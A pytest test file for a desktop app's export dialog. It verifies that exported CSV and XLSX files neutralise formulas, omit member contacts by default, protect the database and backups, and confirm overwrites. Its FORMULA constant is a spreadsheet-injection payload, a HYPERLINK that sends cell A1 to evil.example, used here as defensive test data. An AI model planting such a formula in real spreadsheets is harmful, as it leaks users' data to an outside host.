"""The export dialog: CSV and XLSX through ``export_tables.export``, formulas neutralised, contacts out."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook
from PySide6.QtCore import QSettings, Qt
from PySide6.QtWidgets import QFileDialog, QMessageBox
from pytestqt.qtbot import QtBot

from naij_tracker.domain.kinds import MatterKind
from naij_tracker.services.queries import list_matters
from naij_tracker.ui.context import AppContext
from naij_tracker.ui.export_dialog import ExportDialog
from naij_tracker.ui.tasks import TaskRunner

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def dialog(qtbot: QtBot, sample_ctx: AppContext, ui_settings_store: QSettings) -> ExportDialog:
    dlg = ExportDialog(sample_ctx, None, runner=TaskRunner(synchronous=True),
                       store=ui_settings_store)
    qtbot.addWidget(dlg)
    dlg.show()
    qtbot.waitExposed(dlg)
    return dlg


@pytest.fixture
def said(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    messages: list[str] = []
    monkeypatch.setattr(QMessageBox, "information", lambda *a: messages.append(a[2]))
    return messages


def hostile_grievance(ctx: AppContext) -> int:
    matter_id = list_matters(ctx.db, MatterKind.GRIEVANCE).rows[0][0]
    record = ctx.matters.get(matter_id)
    ctx.matters.update(matter_id, {**record.values, "title": FORMULA},
                       expected_version=record.version)
    return matter_id


def choose(dialog: ExportDialog, what: str, path: Path) -> None:
    dialog.what.setCurrentIndex(dialog.what.findData(what))
    dialog.path_edit.setText(str(path))


def test_csv_neutralises_a_formula(qtbot: QtBot, dialog: ExportDialog, sample_ctx: AppContext,
                                   tmp_path: Path, said: list[str]) -> None:
    hostile_grievance(sample_ctx)
    choose(dialog, "grievances", tmp_path / "grievances.csv")
    assert dialog.format.currentData() == ".csv"
    qtbot.mouseClick(dialog.export_button, Qt.MouseButton.LeftButton)
    out = tmp_path / "grievances.csv"
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [c for r in rows[1:] for c in r]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert said and str(out) in said[0] and "rows exported" in said[0]
    assert dialog.result() == dialog.DialogCode.Accepted


def test_xlsx_writes_text_never_a_formula(qtbot: QtBot, dialog: ExportDialog,
                                          sample_ctx: AppContext, tmp_path: Path,
                                          said: list[str]) -> None:
    hostile_grievance(sample_ctx)
    dialog.what.setCurrentIndex(dialog.what.findData("grievances"))
    dialog.path_edit.setText(str(tmp_path / "grievances"))  # no extension: the format adds it
    dialog.format.setCurrentIndex(dialog.format.findData(".xlsx"))
    qtbot.mouseClick(dialog.export_button, Qt.MouseButton.LeftButton)
    out = tmp_path / "grievances.xlsx"
    sheet = load_workbook(out).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)
    assert said and str(out) in said[0]


def test_members_leave_out_contacts_by_default(qtbot: QtBot, dialog: ExportDialog,
                                               tmp_path: Path, said: list[str]) -> None:
    choose(dialog, "members", tmp_path / "members.csv")
    assert dialog.leave_out_contacts.isChecked() and dialog.leave_out_contacts.isEnabled()
    assert not dialog.include_closed.isEnabled()
    qtbot.mouseClick(dialog.export_button, Qt.MouseButton.LeftButton)
    header = (tmp_path / "members.csv").read_text(encoding="utf-8-sig").splitlines()[0]
    assert "Name" in header and "Email" not in header and "Phone" not in header

    again = ExportDialog(dialog.ctx, None, runner=TaskRunner(synchronous=True),
                         store=dialog.store)
    qtbot.addWidget(again)
    choose(again, "members", tmp_path / "with-contacts.csv")
    again.leave_out_contacts.setChecked(False)
    again.export()
    header = (tmp_path / "with-contacts.csv").read_text(encoding="utf-8-sig").splitlines()[0]
    assert "Email" in header


def test_list_and_format_follow_each_other(dialog: ExportDialog, tmp_path: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    dialog.path_edit.setText(str(tmp_path / "flra.xlsx"))
    dialog.what.setCurrentIndex(dialog.what.findData("deadlines"))
    assert dialog.path_edit.text() == str(tmp_path / "deadlines.xlsx")
    assert "done deadlines" in dialog.include_closed.text()
    dialog.format.setCurrentIndex(dialog.format.findData(".csv"))
    assert dialog.path_edit.text().endswith("deadlines.csv")
    dialog.path_edit.setText(str(tmp_path / "mine.xlsx"))
    assert dialog.format.currentData() == ".xlsx"
    monkeypatch.setattr(QFileDialog, "getSaveFileName",
                        lambda *a: (str(tmp_path / "picked"), "CSV text (*.csv)"))
    dialog.browse()
    assert dialog.path_edit.text() == str(tmp_path / "picked.csv")


def test_a_missing_folder_is_explained(dialog: ExportDialog, tmp_path: Path,
                                       monkeypatch: pytest.MonkeyPatch) -> None:
    warned: list[str] = []
    monkeypatch.setattr(QMessageBox, "warning", lambda *a: warned.append(a[2]))
    choose(dialog, "flra", tmp_path / "gone" / "flra.csv")
    dialog.export()
    assert warned and "does not exist" in warned[0]
    assert not (tmp_path / "gone").exists()


def test_the_database_and_its_backups_are_never_an_export_target(
        qtbot: QtBot, dialog: ExportDialog, sample_ctx: AppContext, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    warned: list[str] = []
    asked: list[str] = []
    monkeypatch.setattr(QMessageBox, "warning", lambda *a: warned.append(a[2]))
    monkeypatch.setattr(QMessageBox, "question", lambda *a: asked.append(a[2]))
    database = sample_ctx.db.path
    assert database is not None
    alias = tmp_path / "records.csv"
    alias.symlink_to(database)  # the database under an export's name
    backup = database.parent / "backups" / "cases-old.csv"
    backup.parent.mkdir(exist_ok=True)
    backup.write_text("kept")
    before = database.read_bytes()
    for target in (alias, backup):
        choose(dialog, "grievances", target)
        qtbot.mouseClick(dialog.export_button, Qt.MouseButton.LeftButton)
    assert len(warned) == 2 and not asked
    assert "is the database in use" in warned[0] and "backups folder" in warned[1]
    assert database.read_bytes() == before and backup.read_text() == "kept"
    assert dialog.result() != dialog.DialogCode.Accepted


def test_an_existing_file_is_replaced_only_when_the_officer_says_so(
        qtbot: QtBot, dialog: ExportDialog, tmp_path: Path, said: list[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    answers = [QMessageBox.StandardButton.No, QMessageBox.StandardButton.Yes]
    asked: list[str] = []

    def question(*args: object) -> QMessageBox.StandardButton:
        asked.append(str(args[2]))
        return answers.pop(0)

    monkeypatch.setattr(QMessageBox, "question", question)
    target = tmp_path / "steward.csv"
    target.write_text("Name,Phone\nMaria,555-0100\n")
    choose(dialog, "grievances", target)
    qtbot.mouseClick(dialog.export_button, Qt.MouseButton.LeftButton)
    assert target.read_text() == "Name,Phone\nMaria,555-0100\n" and "Replace it?" in asked[0]
    qtbot.mouseClick(dialog.export_button, Qt.MouseButton.LeftButton)
    assert "Maria" not in target.read_text() and said
